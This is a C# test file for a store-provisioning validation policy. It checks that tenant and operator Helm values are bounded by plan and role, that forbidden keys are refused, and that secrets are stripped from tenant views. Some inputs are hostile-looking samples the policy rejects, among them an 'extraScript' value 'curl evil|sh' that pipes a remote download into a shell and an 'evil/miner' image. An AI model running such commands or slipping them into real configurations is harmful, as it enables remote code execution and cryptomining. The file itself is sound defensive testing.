using System.Text.Json;
using StoreProvisioning.Catalog;
using StoreProvisioning.Core.Tests.Support;
using StoreProvisioning.Stores;
using StoreProvisioning.Validation;

namespace StoreProvisioning.Core.Tests.Catalog;

public class UpgradeValuesPolicyTests
{
    private static readonly StoreCatalog Catalog = ShippedCatalog.Load();

    private static Validated<AcceptedValues> Check(string values, ValuesAuthority authority = ValuesAuthority.Tenant, StoreEngine engine = StoreEngine.WooCommerce, string plan = "small")
    {
        using var document = JsonDocument.Parse(values);
        return Catalog is { } c ? UpgradeValuesPolicy.Check(engine, document.RootElement, authority, c, plan) : throw new InvalidOperationException();
    }

    private static void AssertRefused(Validated<AcceptedValues> result, params string[] fields)
    {
        Assert.False(result.IsValid);
        Assert.Equal(fields.Order(StringComparer.Ordinal), result.Errors.Keys.Order(StringComparer.Ordinal));
    }

    // A store owner may choose a catalog plan and version and set the title; the plan is reported for the row.
    [Fact]
    public void Tenant_settings_from_the_catalog_are_accepted()
    {
        var result = Check("""{"plan":"medium","version":"6.7","storeTitle":"Acme Coffee"}""");
        Assert.True(result.IsValid, string.Join(" ", result.Errors.SelectMany(e => e.Value)));
        Assert.Equal("medium", result.Value!.Plan);
        Assert.Contains("Acme Coffee", result.Value.Json);
    }

    // Per engine: Medusa owners may scale replicas up to their plan's limit; WooCommerce has no such setting.
    [Fact]
    public void Replicas_are_bounded_by_the_plan_and_medusa_only()
    {
        Assert.True(Check("""{"replicas":1}""", engine: StoreEngine.Medusa).IsValid);
        AssertRefused(Check("""{"replicas":2}""", engine: StoreEngine.Medusa), "values.replicas");
        Assert.Contains("plan 'small'", Check("""{"replicas":2}""", engine: StoreEngine.Medusa).Errors["values.replicas"][0]);
        Assert.True(Check("""{"replicas":2}""", engine: StoreEngine.Medusa, plan: "medium").IsValid);
        Assert.True(Check("""{"plan":"large","replicas":4}""", engine: StoreEngine.Medusa).IsValid); // the plan asked for in the same request counts
        AssertRefused(Check("""{"replicas":1}"""), "values.replicas");
    }

    // Each kind of key nobody may set is refused by its path with a reason of its own, for tenants and operators.
    [Theory]
    [InlineData("""{"image":{"repository":"evil/miner","tag":"latest"}}""", "values.image", "catalog")]
    [InlineData("""{"mariadb":{"image":{"tag":"10"}}}""", "values.mariadb.image", "catalog")]
    [InlineData("""{"securityContext":{"runAsUser":0}}""", "values.securityContext", "Security contexts")]
    [InlineData("""{"mariadb":{"podSecurityContext":{}}}""", "values.mariadb.podSecurityContext", "Security contexts")]
    [InlineData("""{"resources":{"privileged":true}}""", "values.resources.privileged", "Security contexts")]
    [InlineData("""{"networkPolicy":{"enabled":false}}""", "values.networkPolicy", "Isolation")]
    [InlineData("""{"quota":{"enabled":false}}""", "values.quota", "Isolation")]
    [InlineData("""{"limitRange":{}}""", "values.limitRange", "Isolation")]
    [InlineData("""{"service":{"type":"LoadBalancer"}}""", "values.service.type", "ClusterIP")]
    [InlineData("""{"ingress":{"annotations":{"nginx.ingress.kubernetes.io/configuration-snippet":"x"}}}""", "values.ingress.annotations", "Annotations")]
    [InlineData("""{"fullnameOverride":"kube-dns"}""", "values.fullnameOverride", "names are fixed")]
    [InlineData("""{"store":{"host":"evil.example"}}""", "values.store", "set by the control plane")]
    [InlineData("""{"credentials":{"adminPassword":"x"}}""", "values.credentials", "set by the control plane")]
    public void Forbidden_keys_are_refused_for_everyone(string values, string field, string reason)
    {
        foreach (var authority in Enum.GetValues<ValuesAuthority>())
        {
            var result = Check(values, authority);
            AssertRefused(result, field);
            Assert.Contains(reason, result.Errors[field][0]);
        }
    }

    // Every refused key gets its own entry; accepted ones are not reported.
    [Fact]
    public void Each_refused_key_is_named()
    {
        var result = Check("""{"plan":"huge","version":"9.9","storeTitle":"ok","image":{},"store":{},"credentials":{},"Store":{"a":1}}""");
        AssertRefused(result, "values.plan", "values.version", "values.image", "values.store", "values.credentials", "values.Store");
        Assert.Contains("small, medium, large", result.Errors["values.plan"][0]);
        Assert.Contains("Approved: 6.8, 6.7", result.Errors["values.version"][0]);
        Assert.Contains("Unknown setting", result.Errors["values.Store"][0]);
    }

    // Operator keys: refused for a tenant (saying who may), accepted for an operator; outside the operator list refused for both.
    [Fact]
    public void Operator_keys_need_an_operator()
    {
        const string values = """{"resources":{"limits":{"memory":"1Gi"}},"persistence":{"size":"5Gi"},"setup":{"woocommerceVersion":"10.2.2"}}""";
        var tenant = Check(values);
        AssertRefused(tenant, "values.resources", "values.persistence", "values.setup");
        Assert.Contains("Only operators", tenant.Errors["values.resources"][0]);
        Assert.True(Check(values, ValuesAuthority.Operator).IsValid);

        var partly = Check("""{"setup":{"woocommerceVersion":"10.2.2","backoffLimit":3,"extraScript":"curl evil|sh"}}""", ValuesAuthority.Operator);
        AssertRefused(partly, "values.setup.extraScript");
        AssertRefused(Check("""{"wordpress":{"x":1}}""", ValuesAuthority.Operator), "values.wordpress");
    }

    // Types and bounds of tenant settings.
    [Theory]
    [InlineData("""{"plan":1}""", "values.plan")]
    [InlineData("""{"version":null}""", "values.version")]
    [InlineData("""{"storeTitle":""}""", "values.storeTitle")]
    [InlineData("""{"storeTitle":"two\nlines"}""", "values.storeTitle")]
    [InlineData("""{"storeTitle":5}""", "values.storeTitle")]
    public void Tenant_settings_are_typed(string values, string field) => AssertRefused(Check(values), field);

    // A title at the bound passes; one character more does not.
    [Fact]
    public void Store_title_length_bound()
    {
        Assert.True(Check($$"""{"storeTitle":"{{new string('a', UpgradeValuesPolicy.StoreTitleMaxLength)}}"}""").IsValid);
        AssertRefused(Check($$"""{"storeTitle":"{{new string('a', UpgradeValuesPolicy.StoreTitleMaxLength + 1)}}"}"""), "values.storeTitle");
    }

    // Control characters in a client's key never reach the errors map.
    [Fact]
    public void Key_names_are_printable_in_errors()
    {
        var result = Check("{\"ev\\u0000il\\n\":1}");
        Assert.Equal(["values.evil"], result.Errors.Keys);
    }

    // What a tenant may see of a revision: the chart paths their settings reach and those the catalog's plans and
    // versions set (woocommerce: the title, not replicaCount; medusa: replicaCount), nothing else.
    [Fact]
    public void Tenant_visible_paths_come_from_the_settings_and_the_catalog()
    {
        var woo = UpgradeValuesPolicy.TenantVisiblePaths(StoreEngine.WooCommerce, Catalog);
        Assert.Contains("setup.storeTitle", woo);
        Assert.Contains("image.tag", woo);
        Assert.Contains("persistence.size", woo);
        Assert.Contains("mariadb.resources.limits.memory", woo);
        Assert.DoesNotContain("replicaCount", woo);
        Assert.DoesNotContain(woo, p => p.StartsWith("credentials", StringComparison.Ordinal) || p.StartsWith("store", StringComparison.Ordinal) || p.StartsWith("ingress", StringComparison.Ordinal));
        Assert.Contains("replicaCount", UpgradeValuesPolicy.TenantVisiblePaths(StoreEngine.Medusa, Catalog));
    }

    // Deny by default: the control plane's store keys, the generated credentials, operator-only keys, unknown keys, a
    // secret-named key even under a visible path, and objects inside arrays are dropped; visible leaves are kept as they are.
    [Fact]
    public void Tenant_visible_values_drop_secrets_and_everything_not_allowed()
    {
        var values = System.Text.Json.Nodes.JsonNode.Parse("""
            {"store":{"name":"acme","url":"http://acme"},
             "credentials":{"adminPassword":"pw-1","jwtSecret":"pw-2"},
             "image":{"repository":"wordpress","tag":"6.8.3","pullSecret":"pw-3"},
             "setup":{"storeTitle":"Shop","adminUser":"admin","adminPassword":"pw-4"},
             "persistence":{"size":{"password":"pw-5"},"storageClass":"fast"},
             "resources":{"limits":{"cpu":["1",{"token":"pw-6"}],"memory":"1Gi"}},
             "ingress":{"className":"traefik"},"unknown":{"anything":1},"replicaCount":3}
            """)!.AsObject();

        var visible = UpgradeValuesPolicy.TenantVisible(StoreEngine.WooCommerce, Catalog, values);

        Assert.Equal(
            """{"image":{"repository":"wordpress","tag":"6.8.3"},"setup":{"storeTitle":"Shop"},"resources":{"limits":{"memory":"1Gi"}}}""",
            visible.ToJsonString());
        Assert.Contains("pw-1", values.ToJsonString(), StringComparison.Ordinal); // the input is left as it was
        Assert.Equal(3, UpgradeValuesPolicy.TenantVisible(StoreEngine.Medusa, Catalog, values)["replicaCount"]!.GetValue<int>());
    }
}
